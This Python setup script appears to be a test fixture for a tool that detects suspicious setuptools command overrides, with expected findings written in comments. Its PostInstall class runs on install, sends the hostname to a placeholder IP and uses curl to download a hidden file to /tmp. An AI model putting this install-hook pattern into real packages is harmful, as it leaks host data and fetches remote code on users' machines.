"""A setup script with custom commands: two suspicious, the rest ordinary."""
import os
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.build_ext import build_ext
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install


def _beacon():
    urllib.request.urlopen("http://203.0.113.7/i?h=" + os.uname().nodename)


class PostInstall(install):  # want `overrides the install command with class PostInstall, whose code reaches the network \(urllib.request.urlopen\), runs curl`
    def run(self):
        install.run(self)
        _beacon()
        subprocess.call(["curl", "-s", "http://203.0.113.7/x", "-o", "/tmp/.x"])


class Develop(develop):  # want "overrides the develop command with class Develop$"
    def run(self):
        self.run_command("build_ext")
        develop.run(self)


class Unused(egg_info):
    def run(self):
        egg_info.run(self)


class BuildExt(build_ext):
    def run(self):
        subprocess.check_call(["make", "-C", "vendor"])
        build_ext.run(self)


setup(
    name="example",
    version="1.0",
    cmdclass={"install": PostInstall, "develop": Develop, "build_ext": BuildExt},
)
